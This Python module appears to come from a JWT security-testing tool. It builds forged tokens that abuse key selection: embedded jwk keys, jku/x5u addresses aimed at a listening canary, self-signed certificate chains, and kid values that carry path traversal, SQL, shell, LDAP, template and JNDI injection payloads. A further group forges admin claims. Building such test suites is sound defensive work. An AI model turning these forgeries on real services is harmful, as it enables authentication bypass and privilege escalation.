"""Forgeries of the choice of the key: keys brought along, fetched from an address, named strangely."""

from __future__ import annotations

import base64
import datetime
from typing import Any
from urllib.parse import quote, urlsplit

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.x509.oid import NameOID

from assay.token.compact import encode
from assay.token.keys import PRIVATE_MEMBERS, SigningKey
from assay.token.material import Forgery, Group, Lacking, Material, bound


def embedded(material: Material) -> list[Forgery]:
    stranger = material.stranger()
    bare = {name: value for name, value in stranger.jwk.items() if name not in ("alg", "use", "kid")}
    kid = material.header.get("kid")
    secret = b"a secret that travels in the header"
    oct_key = {"kty": "oct", "k": encode(secret), "alg": "HS256"}
    others = [name for name in ("RS256", "ES256", "EdDSA") if name != material.algorithm]
    return [
        Forgery("jwk, the platform's kid kept", lambda m: m.strange(jwk=stranger.jwk)),
        Forgery("jwk under the platform's kid", lambda m: m.strange(jwk={**stranger.jwk, "kid": kid})),
        Forgery("jwk under its own kid", lambda m: m.strange(jwk=stranger.jwk, kid=stranger.kid)),
        Forgery("jwk without a name, no kid", lambda m: _without_kid(m, stranger, jwk=bare)),
        Forgery("jwk with its private half", lambda m: m.strange(jwk={**stranger.jwk, "d": "AQ"})),
        Forgery("jwk in a set", lambda m: m.strange(jwk={"keys": [stranger.jwk]})),
        Forgery("jwk as text", lambda m: m.strange(jwk=str(stranger.jwk))),
        Forgery("jwk with a secret for HMAC", lambda m: m.hmaced(secret, jwk=oct_key)),
        Forgery("jwks beside it", lambda m: m.strange(jwks={"keys": [stranger.jwk]}, kid=stranger.kid)),
        *(
            Forgery(
                f"jwk of another type, {other}",
                bound(_brought, other),
            )
            for other in others
        ),
    ]


def _without_kid(material: Material, key: SigningKey, **changes: Any) -> str:
    from assay.token.material import signed

    header = {**material.header, "alg": key.algorithm, **changes}
    header.pop("kid", None)
    return signed(key, header, material.payload)


def _brought(material: Material, algorithm: str) -> str:
    key = material.stranger(algorithm)
    return material.strange(key, jwk=key.jwk)


def _called(material: Material, kid: Any) -> str:
    return material.resigned({**material.header, "alg": material.own.algorithm, "kid": kid})


def addresses(canary: str, platform: str) -> list[tuple[str, str]]:
    """Addresses that end at the canary, plain and dressed up as something of the platform's."""
    place = urlsplit(canary).netloc
    host = platform or "https://auth.platform.example"
    name = urlsplit(host).netloc
    return [
        ("the stranger's address", canary),
        ("the platform as user name", f"http://{name}@{place}/keys.json"),
        ("the platform as user and password", f"http://{name}:{name}@{place}/keys.json"),
        ("the platform in the path", f"http://{place}/{name}/keys.json"),
        ("the platform after dots", f"http://{place}/x/../{name}/keys.json"),
        ("the platform in the fragment", f"{canary}#{host}/keys.json"),
        ("the platform in the query", f"{canary}?from={quote(host)}"),
        ("a back slash before the platform", f"http://{place}\\@{name}/keys.json"),
        ("an open redirect at the platform", f"{host}/redirect?to={quote(canary, safe='')}"),
        ("the platform's path climbed out of", f"{host}/../..//{place}/keys.json"),
        ("no scheme", f"//{place}/keys.json"),
        ("capital scheme", canary.replace("http", "HTTP", 1)),
        ("white space before it", f" {canary}"),
        ("a line feed inside", f"{host}\r\n@{place}/keys.json"),
        ("a file", "file:///etc/hostname"),
        ("data", "data:application/json,%7B%22keys%22%3A%5B%5D%7D"),
    ]


def fetched(material: Material) -> list[Forgery]:
    if not material.canary:
        raise Lacking("this needs an address that we listen at: give canary=")
    stranger = material.stranger()
    issuer = str(material.claims.get("iss", ""))
    platform = issuer if issuer.startswith("http") else ""
    return [
        Forgery(f"{member}: {name}", bound(Material.strange, stranger, **{member: url}, kid=kid))
        for name, url in addresses(material.canary, platform)
        for member, kid in (("jku", stranger.kid), ("x5u", material.header.get("kid")))
    ]


def certificate(key: SigningKey, name: str = "auth", signer: SigningKey | None = None) -> bytes:
    """A certificate in DER that a key has signed for itself, or another for it."""
    signer = signer or key
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    began = datetime.datetime(2024, 1, 1)
    ends = datetime.datetime(2049, 1, 1)
    built = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.private.public_key())
        .serial_number(7)
        .not_valid_before(began)
        .not_valid_after(ends)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
    )
    digest = None if isinstance(signer.private, ed25519.Ed25519PrivateKey) else hashes.SHA256()
    return built.sign(signer.private, digest).public_bytes(serialization.Encoding.DER)


def certified(material: Material) -> list[Forgery]:
    stranger = material.stranger()
    root = material.stranger("ES256")
    own = certificate(stranger)
    chain = [
        base64.b64encode(one).decode() for one in (certificate(stranger, signer=root), certificate(root))
    ]
    alone = base64.b64encode(own).decode()
    thumb = hashes.Hash(hashes.SHA256())
    thumb.update(own)
    print_ = encode(thumb.finalize())
    return [
        Forgery("x5c, self-signed, the platform's kid", lambda m: m.strange(x5c=[alone])),
        Forgery("x5c, self-signed, another kid", lambda m: m.strange(x5c=[alone], kid=stranger.kid)),
        Forgery("x5c, self-signed, no kid", lambda m: _without_kid(m, stranger, x5c=[alone])),
        Forgery("x5c, a chain of two", lambda m: m.strange(x5c=chain)),
        Forgery("x5c as text", lambda m: m.strange(x5c=alone)),
        Forgery("x5c in base64url", lambda m: m.strange(x5c=[encode(own)])),
        Forgery("x5c and its thumbprint", bound(Material.strange, x5c=[alone], **{"x5t#S256": print_})),
        Forgery("x5c, empty", lambda m: m.strange(x5c=[])),
        Forgery("x5c inside jwk", lambda m: m.strange(jwk={**stranger.jwk, "x5c": [alone]})),
    ]


#: Names of keys that mean something to a file system, a database, a shell or a parser, and the octets that a careless
#: look-up would find for them.
NAMES: tuple[tuple[str, Any, bytes], ...] = (
    ("/dev/null", "/dev/null", b""),
    ("../ to /dev/null", "../../../../../../../../dev/null", b""),
    ("..%2f to /dev/null", "..%2f..%2f..%2f..%2f..%2fdev%2fnull", b""),
    ("file:///dev/null", "file:///dev/null", b""),
    ("a known file", "../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
    ("a known file and NUL", "/proc/sys/kernel/randomize_va_space\0.pem", b"2\n"),
    ("back slashes", "..\\..\\..\\..\\windows\\win.ini", b""),
    ("a wildcard", "*", b""),
    ("a dot", ".", b""),
    ("SQL, a key of our own", "x' UNION SELECT 'known'-- ", b"known"),
    ("SQL, numeric", "0 UNION SELECT 'known'", b"known"),
    ("SQL, always true", "' OR '1'='1", b""),
    ("SQL, a second statement", "x'; SELECT pg_sleep(3)-- ", b""),
    ("SQL, double quotes", 'x" OR ""="', b""),
    ("SQL, LIKE", "%", b""),
    ("NoSQL", {"$ne": None}, b""),
    ("LDAP", "*)(uid=*", b""),
    ("shell, pipe", "x|echo known", b"known\n"),
    ("shell, $()", "$(echo known)", b"known"),
    ("shell, back quotes", "`echo known`", b"known"),
    ("shell, semicolon", "x; sleep 3", b""),
    ("template", "{{7*7}}", b"49"),
    ("format", "%s%s%n{0.__class__}", b""),
    ("JNDI", "${jndi:ldap://127.0.0.1/x}", b""),
    ("NUL", "\0", b""),
    ("empty", "", b""),
    ("a space", " ", b""),
    ("CR LF", "x\r\nX-Injected: 1", b""),
    ("10 kB", "k" * 10_000, b""),
    ("Unicode", "кључ\u202e\U0001f511", b""),
    ("a lone surrogate", "\ud800", b""),
    ("a number", 1, b""),
    ("a float", 1e308, b""),
    ("true", True, b""),
    ("null", None, b""),
    ("a list", ["x"], b""),
    ("an object", {"kid": "x"}, b""),
    ("a prototype", "__proto__", b""),
    ("an attribute", "__class__", b""),
    ("an unknown kid", "no-such-key", b""),
    ("an address", "http://127.0.0.1:9/keys", b""),
)


def named(material: Material) -> list[Forgery]:
    return [
        *(
            Forgery(f"kid {name}, HMAC", bound(Material.hmaced, secret, kid=kid))
            for name, kid, secret in NAMES
        ),
        *(
            Forgery(f"kid {name}, a stranger's signature", bound(Material.strange, kid=kid))
            for name, kid, _ in NAMES
        ),
    ]


def misnamed(material: Material) -> list[Forgery]:
    kid = material.own.kid
    close = (
        ("in capitals", kid.upper()),
        ("with a space after it", kid + " "),
        ("with NUL after it", kid + "\0"),
        ("without its last letter", kid[:-1]),
        ("in a list", [kid]),
        ("twice", kid + kid),
    )
    return [
        Forgery(f"kid {name}", bound(_called, other))
        for name, other in (
            *((name, kid) for name, kid, _ in NAMES),
            *((f"the key's own, {n}", k) for n, k in close),
        )
    ]


def tampered(material: Material) -> list[Forgery]:
    """More rights, with every signature that a caller can come by."""
    rights = {
        **material.claims,
        "permissions": ["*", "admin", "keys:rotate"],
        "role": "admin",
        "scope": "keys:rotate admin",
    }
    stranger = material.stranger()
    return [
        Forgery("the old signature kept", lambda m: _payload(m, rights)),
        Forgery("a stranger's signature", lambda m: m.strange(payload=rights)),
        Forgery("a stranger's signature and kid", lambda m: m.strange(payload=rights, kid=stranger.kid)),
        Forgery("a stranger's key brought along", lambda m: m.strange(payload=rights, jwk=stranger.jwk)),
        Forgery("HMAC with the word secret", lambda m: m.hmaced(b"secret", payload=rights)),
        Forgery("HMAC with nothing", lambda m: m.hmaced(b"", payload=rights)),
        Forgery("no signature", lambda m: _payload(m, rights, "")),
        *(
            Forgery(
                f"a stranger's {other} key", bound(Material.strange, material.stranger(other), payload=rights)
            )
            for other in ("RS256", "ES256", "EdDSA")
            if other != material.algorithm
        ),
    ]


def _payload(material: Material, claims: dict[str, Any], signature: str | None = None) -> str:
    from assay.token.compact import Compact, dumps

    kept = material.compact.signature if signature is None else signature
    return str(Compact(material.compact.header, encode(dumps(claims)), kept))


def private_members(jwk: dict[str, Any]) -> list[str]:
    """The members of a key that nobody may publish."""
    return sorted(set(jwk) & set(PRIVATE_MEMBERS))


GROUPS = (
    Group(
        "embedded key",
        "JWT-18",
        "RFC 7515, 4.1.3; CVE-2018-0114; jwt_tool -X i",
        "The header brings the key that the signature is by",
        embedded,
    ),
    Group(
        "key address",
        "JWT-19",
        "RFC 7515, 4.1.2 and 4.1.5; RFC 8725, 3.10; jwt_tool -X s",
        "The header says where the key is to be fetched",
        fetched,
    ),
    Group(
        "certificate chain",
        "JWT-20",
        "RFC 7515, 4.1.6; CWE-295",
        "The header brings a certificate of a stranger",
        certified,
    ),
    Group(
        "key name",
        "JWT-21",
        "RFC 8725, 3.10; WSTG-SESS-10; CWE-22, CWE-89, CWE-78",
        "The name of the key is an attack on whoever looks it up",
        named,
    ),
    Group(
        "wrong key name",
        "JWT-21",
        "RFC 7515, 4.1.4",
        "The signature is by a trusted key; only the name of the key is wrong",
        misnamed,
        resigned=True,
    ),
    Group(
        "more rights",
        "JWT-32",
        "CWE-269; RFC 7515, 5.2",
        "The claims were changed to give more rights",
        tampered,
    ),
)
